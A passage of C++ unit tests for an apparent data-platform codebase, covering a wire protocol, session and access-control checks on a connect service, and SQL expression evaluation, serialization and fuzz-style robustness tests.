  w.PutTaggedVarint(100, 12345);
  auto back = DecodeRequest(w.data());
  ASSERT_TRUE(back.ok()) << back.status();
  EXPECT_EQ(back->session_id, "s");
  EXPECT_EQ(back->sql, "SELECT 1");
}

TEST(ProtocolTest, OldClientMissingFieldsStillDecodes) {
  // An "old" client that only knows session + sql.
  ByteWriter w;
  w.PutTaggedString(2, "sess-old");
  w.PutTaggedString(5, "SELECT 1");
  auto back = DecodeRequest(w.data());
  ASSERT_TRUE(back.ok());
  EXPECT_EQ(back->session_id, "sess-old");
  EXPECT_EQ(back->client_version, 0u);  // absent -> 0, server tolerates
}

TEST(ProtocolTest, TruncatedRequestRejected) {
  ConnectRequest request;
  request.sql = "SELECT 1";
  auto bytes = EncodeRequest(request);
  bytes.resize(bytes.size() - 3);
  EXPECT_FALSE(DecodeRequest(bytes).ok());
}

// ---- Service + client --------------------------------------------------------------

class ConnectServiceTest : public ::testing::Test {
 protected:
  ConnectServiceTest() {
    EXPECT_TRUE(platform_.AddUser("admin").ok());
    EXPECT_TRUE(platform_.AddUser("alice").ok());
    EXPECT_TRUE(platform_.AddUser("bob").ok());
    platform_.AddMetastoreAdmin("admin");
    platform_.RegisterToken("tok-admin", "admin");
    platform_.RegisterToken("tok-alice", "alice");
    platform_.RegisterToken("tok-bob", "bob");
    EXPECT_TRUE(platform_.catalog().CreateCatalog("admin", "main").ok());
    EXPECT_TRUE(platform_.catalog().CreateSchema("admin", "main.s").ok());
    cluster_ = platform_.CreateStandardCluster();

    auto admin = platform_.Connect(cluster_, "tok-admin");
    EXPECT_TRUE(admin.ok());
    EXPECT_TRUE(admin->Sql("CREATE TABLE main.s.t (x BIGINT, tag STRING)")
                    .ok());
    EXPECT_TRUE(admin->Sql("INSERT INTO main.s.t VALUES "
                           "(1, 'a'), (2, 'b'), (3, 'c')")
                    .ok());
    EXPECT_TRUE(admin->Sql("GRANT USE CATALOG ON main TO alice").ok());
    EXPECT_TRUE(admin->Sql("GRANT USE SCHEMA ON main.s TO alice").ok());
    EXPECT_TRUE(admin->Sql("GRANT SELECT ON main.s.t TO alice").ok());
  }

  LakeguardPlatform platform_;
  ClusterHandle* cluster_ = nullptr;
};

TEST_F(ConnectServiceTest, BadTokenRejected) {
  auto client = platform_.Connect(cluster_, "tok-wrong");
  EXPECT_TRUE(client.status().IsUnauthenticated());
}

TEST_F(ConnectServiceTest, SessionCarriesIdentity) {
  auto alice = platform_.Connect(cluster_, "tok-alice");
  ASSERT_TRUE(alice.ok());
  auto rows = alice->Sql("SELECT CURRENT_USER() AS u FROM main.s.t LIMIT 1");
  ASSERT_TRUE(rows.ok()) << rows.status();
  EXPECT_EQ(rows->Combine()->CellAt(0, 0).string_value(), "alice");
}

TEST_F(ConnectServiceTest, DataFrameApiOverTheWire) {
  auto alice = platform_.Connect(cluster_, "tok-alice");
  ASSERT_TRUE(alice.ok());
  auto rows = alice->ReadTable("main.s.t")
                  .Filter(BinOp(BinaryOpKind::kGe, Col("x"), LitInt(2)))
                  .Select({Col("x"), Col("tag")}, {"x", "tag"})
                  .OrderBy({{Col("x"), false}})
                  .Limit(1)
                  .Collect();
  ASSERT_TRUE(rows.ok()) << rows.status();
  auto batch = *rows->Combine();
  ASSERT_EQ(batch.num_rows(), 1u);
  EXPECT_EQ(batch.CellAt(0, 0).int_value(), 3);
}

TEST_F(ConnectServiceTest, DataFrameGroupByAgg) {
  auto alice = platform_.Connect(cluster_, "tok-alice");
  ASSERT_TRUE(alice.ok());
  auto rows = alice->ReadTable("main.s.t")
                  .GroupByAgg({}, {}, {Func("SUM", {Col("x")})}, {"s"})
                  .Collect();
  ASSERT_TRUE(rows.ok());
  EXPECT_EQ(rows->Combine()->CellAt(0, 0).int_value(), 6);
}

TEST_F(ConnectServiceTest, LocalRelationRoundTrip) {
  auto alice = platform_.Connect(cluster_, "tok-alice");
  ASSERT_TRUE(alice.ok());
  TableBuilder builder(Schema({{"v", TypeKind::kInt64, true}}));
  ASSERT_TRUE(builder.AppendRow({Value::Int(41)}).ok());
  auto rows = alice->FromBatch(*builder.Build().Combine())
                  .Select({BinOp(BinaryOpKind::kAdd, Col("v"), LitInt(1))},
                          {"v1"})
                  .Collect();
  ASSERT_TRUE(rows.ok()) << rows.status();
  EXPECT_EQ(rows->Combine()->CellAt(0, 0).int_value(), 42);
}

TEST_F(ConnectServiceTest, LargeResultStreamsInChunks) {
  auto admin = platform_.Connect(cluster_, "tok-admin");
  ASSERT_TRUE(admin.ok());
  ASSERT_TRUE(admin->Sql("CREATE TABLE main.s.big (x BIGINT)").ok());
  for (int chunk = 0; chunk < 6; ++chunk) {
    std::string sql = "INSERT INTO main.s.big VALUES ";
    for (int i = 0; i < 1000; ++i) {
      if (i > 0) sql += ", ";
      sql += "(" + std::to_string(chunk * 1000 + i) + ")";
    }
    ASSERT_TRUE(admin->Sql(sql).ok());
  }
  // 6000 rows at 1024 rows/chunk > inline limit -> FetchChunk path.
  auto rows = admin->Sql("SELECT x FROM main.s.big");
  ASSERT_TRUE(rows.ok()) << rows.status();
  EXPECT_EQ(rows->num_rows(), 6000u);
}

TEST_F(ConnectServiceTest, CrossSessionResultAccessDenied) {
  auto admin = platform_.Connect(cluster_, "tok-admin");
  auto alice = platform_.Connect(cluster_, "tok-alice");
  ASSERT_TRUE(admin.ok());
  ASSERT_TRUE(alice.ok());
  // admin runs a large query whose chunks are buffered server-side.
  ASSERT_TRUE(admin->Sql("CREATE TABLE main.s.big2 (x BIGINT)").ok());
  std::string sql = "INSERT INTO main.s.big2 VALUES (0)";
  for (int i = 1; i < 6000; ++i) sql += ", (" + std::to_string(i) + ")";
  ASSERT_TRUE(admin->Sql(sql).ok());

  ConnectRequest request;
  request.session_id = admin->session_id();
  request.sql = "SELECT x FROM main.s.big2";
  ConnectResponse response = cluster_->service->Execute(request);
  ASSERT_TRUE(response.ok);
  ASSERT_TRUE(response.inline_chunks.empty());  // buffered, not inline
  // alice must not be able to fetch admin's buffered chunks.
  auto stolen = cluster_->service->FetchChunk(alice->session_id(),
                                              response.operation_id, 0);
  EXPECT_TRUE(stolen.status().IsPermissionDenied());
  // admin can.
  EXPECT_TRUE(cluster_->service
                  ->FetchChunk(admin->session_id(), response.operation_id, 0)
                  .ok());
}

TEST_F(ConnectServiceTest, ClosedSessionIsTombstoned) {
  auto alice = platform_.Connect(cluster_, "tok-alice");
  ASSERT_TRUE(alice.ok());
  ASSERT_TRUE(alice->Close().ok());
  auto rows = alice->Sql("SELECT x FROM main.s.t");
  EXPECT_FALSE(rows.ok());
}

TEST_F(ConnectServiceTest, IdleSessionsExpire) {
  auto alice = platform_.Connect(cluster_, "tok-alice");
  ASSERT_TRUE(alice.ok());
  size_t before = cluster_->service->ActiveSessionCount();
  platform_.simulated_clock()->AdvanceMicros(3600LL * 1000 * 1000);
  size_t expired = cluster_->service->ExpireIdleSessions(
      /*idle_micros=*/1800LL * 1000 * 1000);
  EXPECT_GE(expired, 1u);
  EXPECT_LT(cluster_->service->ActiveSessionCount(), before);
}

TEST_F(ConnectServiceTest, SessionCloseReleasesSandboxes) {
  // Run a UDF so a sandbox exists for this session, then close.
  FunctionInfo fn;
  fn.full_name = "main.s.f";
  fn.num_args = 2;
  fn.return_type = TypeKind::kInt64;
  fn.body = canned::SumUdf();
  ASSERT_TRUE(platform_.catalog().CreateFunction("admin", fn).ok());
  ASSERT_TRUE(platform_.catalog().Grant("admin", "main.s.f",
                                        Privilege::kExecute, "alice").ok());
  auto alice = platform_.Connect(cluster_, "tok-alice");
  ASSERT_TRUE(alice.ok());
  ASSERT_TRUE(
      alice->Sql("SELECT main.s.f(x, 1) AS y FROM main.s.t").ok());
  EXPECT_GE(cluster_->cluster->driver_host().dispatcher().ActiveSandboxCount(),
            1u);
  ASSERT_TRUE(alice->Close().ok());
  EXPECT_EQ(cluster_->cluster->driver_host().dispatcher().ActiveSandboxCount(),
            0u);
}

TEST_F(ConnectServiceTest, ErrorsTravelTheWireTyped) {
  auto alice = platform_.Connect(cluster_, "tok-alice");
  ASSERT_TRUE(alice.ok());
  auto rows = alice->Sql("SELECT nope FROM main.s.t");
  ASSERT_FALSE(rows.ok());
  EXPECT_NE(rows.status().message().find("invalid_argument"),
            std::string::npos);
}

TEST_F(ConnectServiceTest, RpcOnGarbageBytesReturnsEncodedError) {
  auto response_bytes = cluster_->service->HandleRpc({0xFF, 0xFF, 0xFF});
  auto response = DecodeResponse(response_bytes);
  ASSERT_TRUE(response.ok());
  EXPECT_FALSE(response->ok);
}

}  // namespace
}  // namespace lakeguard
