// Tests for src/expr: AST, type inference, vectorized evaluation (incl.
// SQL three-valued logic), builtin functions, and expression serde.

#include <gtest/gtest.h>

#include "columnar/table.h"
#include "engine/plan_verifier.h"
#include "expr/compiler/compiler.h"
#include "expr/compiler/policy_eval_cache.h"
#include "expr/evaluator.h"
#include "expr/expr.h"
#include "expr/expr_serde.h"
#include "expr/functions.h"

namespace lakeguard {
namespace {

RecordBatch TestBatch() {
  Schema schema({{"a", TypeKind::kInt64, true},
                 {"b", TypeKind::kInt64, true},
                 {"s", TypeKind::kString, true},
                 {"d", TypeKind::kFloat64, true}});
  TableBuilder builder(schema);
  EXPECT_TRUE(builder.AppendRow({Value::Int(1), Value::Int(10),
                                 Value::String("alpha"), Value::Double(1.5)})
                  .ok());
  EXPECT_TRUE(builder.AppendRow({Value::Int(2), Value::Null(),
                                 Value::String("Beta"), Value::Double(-2.0)})
                  .ok());
  EXPECT_TRUE(builder.AppendRow({Value::Int(3), Value::Int(30), Value::Null(),
                                 Value::Null()})
                  .ok());
  auto combined = builder.Build().Combine();
  EXPECT_TRUE(combined.ok());
  return *combined;
}

Column Eval(const ExprPtr& e, const EvalContext& ctx = {}) {
  auto col = EvaluateExpr(e, TestBatch(), ctx);
  EXPECT_TRUE(col.ok()) << col.status();
  return *col;
}

// ---- AST basics -------------------------------------------------------------------

TEST(ExprAstTest, ToStringRendering) {
  ExprPtr e = And(Eq(Col("region"), LitString("US")),
                  Func("IS_MEMBER", {LitString("sales")}));
  EXPECT_EQ(e->ToString(), "((region = 'US') AND IS_MEMBER('sales'))");
  EXPECT_EQ(CastTo(Col("x"), TypeKind::kInt64)->ToString(),
            "CAST(x AS BIGINT)");
  EXPECT_EQ(ColIdx("a", 3)->ToString(), "a#3");
}

TEST(ExprAstTest, EqualsIsStructural) {
  ExprPtr a = BinOp(BinaryOpKind::kAdd, Col("a"), LitInt(1));
  ExprPtr b = BinOp(BinaryOpKind::kAdd, Col("A"), LitInt(1));
  ExprPtr c = BinOp(BinaryOpKind::kAdd, Col("a"), LitInt(2));
  EXPECT_TRUE(a->Equals(*b));  // column names case-insensitive
  EXPECT_FALSE(a->Equals(*c));
}

TEST(ExprAstTest, CollectColumnRefs) {
  ExprPtr e = And(Eq(Col("x"), Col("y")), Not(Col("z")));
  std::vector<std::string> refs;
  CollectColumnRefs(e, &refs);
  EXPECT_EQ(refs.size(), 3u);
}

TEST(ExprAstTest, RewriteReplacesNodes) {
  ExprPtr e = BinOp(BinaryOpKind::kAdd, Col("x"), Col("x"));
  ExprPtr rewritten = RewriteExpr(e, [](const ExprPtr& node) -> ExprPtr {
    if (node->kind() == ExprKind::kColumnRef) return LitInt(5);
    return nullptr;
  });
  EXPECT_EQ(rewritten->ToString(), "(5 + 5)");
}

TEST(ExprAstTest, ContainsUdfCall) {
  ExprPtr plain = BinOp(BinaryOpKind::kAdd, Col("a"), LitInt(1));
  EXPECT_FALSE(ContainsUdfCall(plain));
  ExprPtr with_udf = BinOp(
      BinaryOpKind::kAdd,
      Udf("f", "owner", TypeKind::kInt64, {Col("a")}), LitInt(1));
  EXPECT_TRUE(ContainsUdfCall(with_udf));
}

// ---- Type inference ------------------------------------------------------------------

TEST(InferTypeTest, Arithmetic) {
  Schema schema = TestBatch().schema();
  EXPECT_EQ(*InferExprType(BinOp(BinaryOpKind::kAdd, Col("a"), Col("b")),
                           schema),
            TypeKind::kInt64);
  EXPECT_EQ(*InferExprType(BinOp(BinaryOpKind::kAdd, Col("a"), Col("d")),
                           schema),
            TypeKind::kFloat64);
  EXPECT_EQ(*InferExprType(BinOp(BinaryOpKind::kDiv, Col("a"), Col("b")),
                           schema),
            TypeKind::kFloat64);
  EXPECT_EQ(*InferExprType(Eq(Col("a"), Col("b")), schema), TypeKind::kBool);
}

TEST(InferTypeTest, AggregatesAndFunctions) {
  Schema schema = TestBatch().schema();
  EXPECT_EQ(*InferExprType(Func("COUNT", {Col("a")}), schema),
            TypeKind::kInt64);
  EXPECT_EQ(*InferExprType(Func("AVG", {Col("a")}), schema),
            TypeKind::kFloat64);
  EXPECT_EQ(*InferExprType(Func("SUM", {Col("d")}), schema),
            TypeKind::kFloat64);
  EXPECT_EQ(*InferExprType(Func("MIN", {Col("s")}), schema),
            TypeKind::kString);
  EXPECT_EQ(*InferExprType(Func("UPPER", {Col("s")}), schema),
            TypeKind::kString);
  EXPECT_FALSE(InferExprType(Func("NO_SUCH_FN", {}), schema).ok());
  EXPECT_FALSE(InferExprType(Col("missing"), schema).ok());
}

// ---- Evaluation -----------------------------------------------------------------------

TEST(EvalTest, ArithmeticWithNullPropagation) {
  Column c = Eval(BinOp(BinaryOpKind::kAdd, Col("a"), Col("b")));
  EXPECT_EQ(c.IntAt(0), 11);
  EXPECT_TRUE(c.IsNull(1));  // b is NULL in row 1
  EXPECT_EQ(c.IntAt(2), 33);
}

TEST(EvalTest, DivisionByZeroIsNull) {
  Column c = Eval(BinOp(BinaryOpKind::kDiv, Col("a"), LitInt(0)));
  EXPECT_TRUE(c.IsNull(0));
}

TEST(EvalTest, ThreeValuedAnd) {
  // (b > 100) is false/NULL/false for the three rows; AND false -> false.
  ExprPtr null_pred = BinOp(BinaryOpKind::kGt, Col("b"), LitInt(100));
  Column c = Eval(And(null_pred, LitBool(false)));
  EXPECT_FALSE(c.BoolAt(0));
  EXPECT_FALSE(c.BoolAt(1));  // NULL AND false = false
  Column c2 = Eval(And(null_pred, LitBool(true)));
  EXPECT_TRUE(c2.IsNull(1));  // NULL AND true = NULL
}

TEST(EvalTest, ThreeValuedOr) {
  ExprPtr null_pred = BinOp(BinaryOpKind::kGt, Col("b"), LitInt(100));
  Column c = Eval(Or(null_pred, LitBool(true)));
  EXPECT_TRUE(c.BoolAt(1));  // NULL OR true = true
  Column c2 = Eval(Or(null_pred, LitBool(false)));
  EXPECT_TRUE(c2.IsNull(1));  // NULL OR false = NULL
}

TEST(EvalTest, NotOfNullIsNull) {
  ExprPtr null_pred = BinOp(BinaryOpKind::kGt, Col("b"), LitInt(100));
  Column c = Eval(Not(null_pred));
  EXPECT_TRUE(c.IsNull(1));
  EXPECT_TRUE(c.BoolAt(0));
}

TEST(EvalTest, StringConcatViaPlus) {
  Column c = Eval(BinOp(BinaryOpKind::kAdd, Col("s"), LitString("!")));
  EXPECT_EQ(c.StringAt(0), "alpha!");
  EXPECT_TRUE(c.IsNull(2));
}

TEST(EvalTest, CaseExpression) {
  std::vector<CaseExpr::Branch> branches;
  branches.push_back({BinOp(BinaryOpKind::kGe, Col("a"), LitInt(3)),
                      LitString("big")});
  branches.push_back({BinOp(BinaryOpKind::kGe, Col("a"), LitInt(2)),
                      LitString("mid")});
  ExprPtr e = std::make_shared<CaseExpr>(branches, LitString("small"));
  Column c = Eval(e);
  EXPECT_EQ(c.StringAt(0), "small");
  EXPECT_EQ(c.StringAt(1), "mid");
  EXPECT_EQ(c.StringAt(2), "big");
}

TEST(EvalTest, CaseWithoutElseYieldsNull) {
  std::vector<CaseExpr::Branch> branches;
  branches.push_back({LitBool(false), LitInt(1)});
  ExprPtr e = std::make_shared<CaseExpr>(branches, nullptr);
  EXPECT_TRUE(Eval(e).IsNull(0));
}

TEST(EvalTest, InAndIsNullAndLike) {
  Column in_col = Eval(std::make_shared<InExpr>(
      Col("a"), std::vector<Value>{Value::Int(1), Value::Int(3)}, false));
  EXPECT_TRUE(in_col.BoolAt(0));
  EXPECT_FALSE(in_col.BoolAt(1));

  Column isnull = Eval(std::make_shared<IsNullExpr>(Col("b"), false));
  EXPECT_TRUE(isnull.BoolAt(1));
  EXPECT_FALSE(isnull.BoolAt(0));

  Column like = Eval(std::make_shared<LikeExpr>(Col("s"), "%eta", false));
  EXPECT_FALSE(like.BoolAt(0));
  EXPECT_TRUE(like.BoolAt(1));
  EXPECT_TRUE(like.IsNull(2));
}

TEST(EvalTest, ContextFunctionsBindToUser) {
  EvalContext ctx;
  ctx.current_user = "dana";
  ctx.is_group_member = [](const std::string& user,
                           const std::string& group) {
    return user == "dana" && group == "ds";
  };
  Column user_col = Eval(Func("CURRENT_USER", {}), ctx);
  EXPECT_EQ(user_col.StringAt(0), "dana");
  Column member = Eval(Func("IS_ACCOUNT_GROUP_MEMBER", {LitString("ds")}),
                       ctx);
  EXPECT_TRUE(member.BoolAt(0));
  Column not_member =
      Eval(Func("IS_ACCOUNT_GROUP_MEMBER", {LitString("hr")}), ctx);
  EXPECT_FALSE(not_member.BoolAt(0));
}

TEST(EvalTest, UdfWithoutExecutorFails) {
  ExprPtr udf = Udf("f", "owner", TypeKind::kInt64, {Col("a")});
  auto got = EvaluateExpr(udf, TestBatch(), EvalContext{});
  EXPECT_TRUE(got.status().IsFailedPrecondition());
}

TEST(EvalTest, PredicateMaskTreatsNullAsFalse) {
  auto mask = EvaluatePredicateMask(
      BinOp(BinaryOpKind::kGt, Col("b"), LitInt(5)), TestBatch(), {});
  ASSERT_TRUE(mask.ok());
  EXPECT_EQ((*mask)[0], 1);
  EXPECT_EQ((*mask)[1], 0);  // NULL comparison excluded
  EXPECT_EQ((*mask)[2], 1);
}

TEST(EvalTest, EvaluateScalar) {
  auto v = EvaluateScalar(BinOp(BinaryOpKind::kMul, LitInt(6), LitInt(7)), {});
  ASSERT_TRUE(v.ok());
  EXPECT_EQ(v->int_value(), 42);
}

// ---- Builtin functions ------------------------------------------------------------------

TEST(FunctionsTest, StringFunctions) {
  EvalContext ctx;
  auto eval1 = [&](const char* name, std::vector<Value> args) {
    auto fn = LookupBuiltin(name);
    EXPECT_TRUE(fn.ok());
    auto v = (*fn)->eval(args, ctx);
    EXPECT_TRUE(v.ok()) << v.status();
    return *v;
  };
  EXPECT_EQ(eval1("UPPER", {Value::String("ab")}).string_value(), "AB");
  EXPECT_EQ(eval1("LOWER", {Value::String("AB")}).string_value(), "ab");
  EXPECT_EQ(eval1("LENGTH", {Value::String("abc")}).int_value(), 3);
  EXPECT_EQ(eval1("CONCAT", {Value::String("a"), Value::String("b")})
                .string_value(),
            "ab");
  EXPECT_EQ(eval1("SUBSTRING",
                  {Value::String("abcdef"), Value::Int(2), Value::Int(3)})
                .string_value(),
            "bcd");
  EXPECT_EQ(eval1("TRIM", {Value::String("  x ")}).string_value(), "x");
  EXPECT_EQ(eval1("REPLACE", {Value::String("aXbX"), Value::String("X"),
                              Value::String("-")})
                .string_value(),
            "a-b-");
}

TEST(FunctionsTest, MaskingHelpers) {
  EvalContext ctx;
  auto fn = LookupBuiltin("MASK");
  ASSERT_TRUE(fn.ok());
  EXPECT_EQ((*fn)->eval({Value::String("111-22-3333")}, ctx)->string_value(),
            "*******3333");
  EXPECT_EQ((*fn)->eval({Value::String("ab")}, ctx)->string_value(), "**");
  auto redact = LookupBuiltin("REDACT");
  EXPECT_EQ((*redact)->eval({Value::String("anything")}, ctx)->string_value(),
            "[REDACTED]");
}

TEST(FunctionsTest, Sha2MatchesLibrary) {
  EvalContext ctx;
  auto fn = LookupBuiltin("SHA2");
  ASSERT_TRUE(fn.ok());
  EXPECT_EQ((*fn)->eval({Value::String("abc"), Value::Int(256)}, ctx)
                ->string_value(),
            "ba7816bf8f01cfea414140de5dae2223b00361a396177a9cb410ff61f20015ad");
  EXPECT_FALSE((*fn)->eval({Value::String("abc"), Value::Int(512)}, ctx).ok());
}

TEST(FunctionsTest, NullHandling) {
  EvalContext ctx;
  auto coalesce = LookupBuiltin("COALESCE");
  EXPECT_EQ((*coalesce)
                ->eval({Value::Null(), Value::Null(), Value::Int(3)}, ctx)
                ->int_value(),
            3);
  auto nullif = LookupBuiltin("NULLIF");
  EXPECT_TRUE(
      (*nullif)->eval({Value::Int(2), Value::Int(2)}, ctx)->is_null());
  EXPECT_EQ((*nullif)->eval({Value::Int(2), Value::Int(3)}, ctx)->int_value(),
            2);
}

TEST(FunctionsTest, AggregateNamesRecognized) {
  EXPECT_TRUE(IsAggregateFunctionName("sum"));
  EXPECT_TRUE(IsAggregateFunctionName("COUNT"));
  EXPECT_FALSE(IsAggregateFunctionName("UPPER"));
  EXPECT_FALSE(BuiltinFunctionNames().empty());
}

// ---- LIKE matcher property sweep ----------------------------------------------------------

struct LikeCase {
  const char* input;
  const char* pattern;
  bool expect;
};

class LikeMatchTest : public ::testing::TestWithParam<LikeCase> {};

TEST_P(LikeMatchTest, Matches) {
  const LikeCase& c = GetParam();
  EXPECT_EQ(SqlLikeMatch(c.input, c.pattern), c.expect)
      << c.input << " LIKE " << c.pattern;
}

INSTANTIATE_TEST_SUITE_P(
    Patterns, LikeMatchTest,
    ::testing::Values(LikeCase{"hello", "hello", true},
                      LikeCase{"hello", "h%", true},
                      LikeCase{"hello", "%o", true},
                      LikeCase{"hello", "%ell%", true},
                      LikeCase{"hello", "h_llo", true},
                      LikeCase{"hello", "h_lo", false},
                      LikeCase{"hello", "", false},
                      LikeCase{"", "%", true},
                      LikeCase{"", "", true},
                      LikeCase{"abc", "%%", true},
                      LikeCase{"abc", "a%c%", true},
                      LikeCase{"abc", "_%_", true},
                      LikeCase{"ab", "___", false}));

// ---- Expression serde round-trip -----------------------------------------------------------

class ExprSerdeTest : public ::testing::TestWithParam<int> {
 public:
  static std::vector<ExprPtr> Cases() {
    std::vector<CaseExpr::Branch> branches;
    branches.push_back({Eq(Col("x"), LitInt(1)), LitString("one")});
    return {
        LitNull(),
        LitInt(-42),
        LitDouble(3.25),
        LitString("str'ing"),
        LitBool(true),
        Lit(Value::Binary("\x00\x01\x02")),
        Col("unresolved"),
        ColIdx("resolved", 7),
        BinOp(BinaryOpKind::kMod, Col("a"), LitInt(3)),
        Not(Col("flag")),
        Func("CONCAT", {Col("a"), Col("b"), LitString("-")}),
        CastTo(Col("x"), TypeKind::kFloat64),
        std::make_shared<CaseExpr>(branches, LitString("other")),
        std::make_shared<InExpr>(
            Col("r"), std::vector<Value>{Value::String("US")}, true),
        std::make_shared<IsNullExpr>(Col("x"), true),
        std::make_shared<LikeExpr>(Col("s"), "a%b_c", false),
        Udf("main.f", "owner@corp", TypeKind::kString,
            {Col("payload"), LitInt(2)}),
        And(Or(Eq(Col("a"), LitInt(1)), Eq(Col("b"), LitInt(2))),
            Not(std::make_shared<IsNullExpr>(Col("c"), false))),
    };
  }
};

TEST_P(ExprSerdeTest, RoundTrips) {
  ExprPtr original = Cases()[static_cast<size_t>(GetParam())];
  ByteWriter w;
  SerializeExpr(original, &w);
  ByteReader r(w.data());
  auto back = DeserializeExpr(&r);
  ASSERT_TRUE(back.ok()) << back.status();
  EXPECT_TRUE((*back)->Equals(*original)) << original->ToString();
  EXPECT_TRUE(r.AtEnd());
}

INSTANTIATE_TEST_SUITE_P(AllShapes, ExprSerdeTest,
                         ::testing::Range(0, 18));

TEST(ExprSerdeErrorTest, GarbageRejected) {
  std::vector<uint8_t> garbage = {0xFF, 0x00, 0x01};
  ByteReader r(garbage);
  EXPECT_FALSE(DeserializeExpr(&r).ok());
}

// ---- Property-style randomized serde ----------------------------------------------
//
// Seeded random expression trees: every generated tree must round-trip to a
// structurally equal tree consuming the whole buffer, every strict prefix of
// its encoding must fail to decode, and corrupted encodings must return a
// Status (possibly OK with a still-valid tree) — never crash.

class ExprRng {
 public:
  explicit ExprRng(uint64_t seed) : state_(seed ? seed : 0x9e3779b9) {}
  uint64_t Next() {
    state_ ^= state_ << 13;
    state_ ^= state_ >> 7;
    state_ ^= state_ << 17;
    return state_;
  }
  size_t Below(size_t n) { return n == 0 ? 0 : Next() % n; }

 private:
  uint64_t state_;
};

ExprPtr RandomLeaf(ExprRng& rng) {
  switch (rng.Below(7)) {
    case 0:
      return LitInt(static_cast<int64_t>(rng.Below(2000)) - 1000);
    case 1:
      return LitDouble(static_cast<double>(rng.Below(1000)) * 0.25);
    case 2:
      return LitString("s" + std::to_string(rng.Below(64)));
    case 3:
      return LitBool(rng.Below(2) == 0);
    case 4:
      return LitNull();
    case 5:
      return ColIdx("r" + std::to_string(rng.Below(8)),
                    static_cast<int>(rng.Below(8)));
    default:
      return Col("c" + std::to_string(rng.Below(8)));
  }
}

ExprPtr RandomExprTree(ExprRng& rng, int depth) {
  if (depth <= 0 || rng.Below(4) == 0) return RandomLeaf(rng);
  switch (rng.Below(10)) {
    case 0:
      return Eq(RandomExprTree(rng, depth - 1), RandomExprTree(rng, depth - 1));
    case 1:
      return And(RandomExprTree(rng, depth - 1),
                 RandomExprTree(rng, depth - 1));
    case 2:
      return Or(RandomExprTree(rng, depth - 1), RandomExprTree(rng, depth - 1));
    case 3:
      return Not(RandomExprTree(rng, depth - 1));
    case 4: {
      std::vector<ExprPtr> args;
      size_t n = 1 + rng.Below(3);
      for (size_t i = 0; i < n; ++i) args.push_back(RandomExprTree(rng, depth - 1));
      return Func("F" + std::to_string(rng.Below(4)), std::move(args));
    }
    case 5:
      return CastTo(RandomExprTree(rng, depth - 1),
                    rng.Below(2) == 0 ? TypeKind::kInt64 : TypeKind::kString);
    case 6:
      return std::make_shared<IsNullExpr>(RandomExprTree(rng, depth - 1),
                                          rng.Below(2) == 0);
    case 7:
      return std::make_shared<LikeExpr>(RandomExprTree(rng, depth - 1),
                                        "a%b_" + std::to_string(rng.Below(4)),
                                        rng.Below(2) == 0);
    case 8: {
      std::vector<CaseExpr::Branch> branches;
      branches.push_back({Eq(Col("x"), LitInt(static_cast<int64_t>(rng.Below(9)))),
                          RandomExprTree(rng, depth - 1)});
      return std::make_shared<CaseExpr>(std::move(branches),
                                        RandomExprTree(rng, depth - 1));
    }
    default:
      return std::make_shared<InExpr>(
          RandomExprTree(rng, depth - 1),
          std::vector<Value>{Value::String("US"),
                             Value::Int(static_cast<int64_t>(rng.Below(5)))},
          rng.Below(2) == 0);
  }
}

class ExprPropertyTest : public ::testing::TestWithParam<int> {};

TEST_P(ExprPropertyTest, RandomExprRoundTripsExactly) {
  ExprRng rng(0xE100 + GetParam());
  for (int i = 0; i < 60; ++i) {
    ExprPtr original = RandomExprTree(rng, 4);
    ByteWriter w;
    SerializeExpr(original, &w);
    ByteReader r(w.data());
    auto back = DeserializeExpr(&r);
    ASSERT_TRUE(back.ok()) << back.status() << "\n" << original->ToString();
    EXPECT_TRUE((*back)->Equals(*original)) << original->ToString();
    EXPECT_TRUE(r.AtEnd()) << original->ToString();
  }
}

TEST_P(ExprPropertyTest, EveryStrictPrefixIsRejected) {
  ExprRng rng(0xE200 + GetParam());
  for (int i = 0; i < 8; ++i) {
    ByteWriter w;
    SerializeExpr(RandomExprTree(rng, 3), &w);
    const std::vector<uint8_t>& full = w.data();
    for (size_t len = 0; len < full.size(); ++len) {
      std::vector<uint8_t> prefix(full.begin(),
                                  full.begin() + static_cast<long>(len));
      ByteReader r(prefix);
      EXPECT_FALSE(DeserializeExpr(&r).ok())
          << "prefix of length " << len << "/" << full.size() << " decoded";
    }
  }
}

TEST_P(ExprPropertyTest, CorruptedBytesErrorOrDecodeNeverCrash) {
  ExprRng rng(0xE300 + GetParam());
  for (int i = 0; i < 60; ++i) {
    ByteWriter w;
    SerializeExpr(RandomExprTree(rng, 3), &w);
    std::vector<uint8_t> bytes = w.data();
    for (int flips = 0; flips < 3; ++flips) {
      bytes[rng.Below(bytes.size())] ^=
          static_cast<uint8_t>(1 + rng.Below(255));
    }
    ByteReader r(bytes);
    auto back = DeserializeExpr(&r);  // Status, never a crash
    if (back.ok()) {
      EXPECT_FALSE((*back)->ToString().empty());
    }
  }
}

INSTANTIATE_TEST_SUITE_P(Seeds, ExprPropertyTest, ::testing::Range(0, 4));

// ---- Fused policy evaluation: compiler, program, cache, PV007 ---------------
//
// The compiled path (src/expr/compiler) must be an exact drop-in for the
// tree-walking interpreter: same values, same NULLs, same errors. The
// interpreter is the differential-testing oracle throughout.

Schema FusionSchema() {
  return Schema({{"a", TypeKind::kInt64, true},
                 {"b", TypeKind::kInt64, true},
                 {"s", TypeKind::kString, true},
                 {"d", TypeKind::kFloat64, true}});
}

EvalContext FusionCtx() {
  EvalContext ctx;
  ctx.current_user = "alice";
  ctx.is_group_member = [](const std::string& user, const std::string& group) {
    return user == "alice" && group == "admins";
  };
  return ctx;
}

/// Asserts interpreter and compiled program agree on `expr` over `batch`:
/// equal columns when both succeed, failure on both sides otherwise.
void ExpectSameEvaluation(const ExprPtr& expr, const RecordBatch& batch,
                          const EvalContext& ctx) {
  auto interpreted = EvaluateExpr(expr, batch, ctx);
  auto program = CompileExpr(expr, batch.schema());
  if (!program.ok()) {
    EXPECT_FALSE(interpreted.ok())
        << expr->ToString() << " compiles not at all but interprets fine: "
        << program.status();
    return;
  }
  auto compiled = RunProgram(*program, batch, ctx);
  if (!interpreted.ok()) {
    EXPECT_FALSE(compiled.ok())
        << expr->ToString() << " interprets with error (" <<
        interpreted.status() << ") but ran compiled";
    return;
  }
  ASSERT_TRUE(compiled.ok()) << expr->ToString() << ": " << compiled.status();
  ASSERT_EQ(interpreted->length(), compiled->length()) << expr->ToString();
  for (size_t i = 0; i < interpreted->length(); ++i) {
    EXPECT_TRUE(interpreted->GetValue(i) == compiled->GetValue(i))
        << expr->ToString() << " row " << i << ": interpreter "
        << interpreted->GetValue(i).ToString() << " vs compiled "
        << compiled->GetValue(i).ToString();
  }
}

